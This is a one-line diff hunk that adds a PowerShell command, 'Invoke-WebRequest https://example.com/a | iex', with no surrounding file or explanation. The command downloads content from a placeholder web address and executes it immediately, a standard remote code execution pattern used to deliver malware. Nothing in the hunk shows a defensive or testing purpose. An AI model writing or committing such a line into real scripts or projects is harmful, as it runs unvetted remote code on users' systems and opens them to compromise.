@@ -1,0 +1,1 @@
+Invoke-WebRequest https://example.com/a | iex
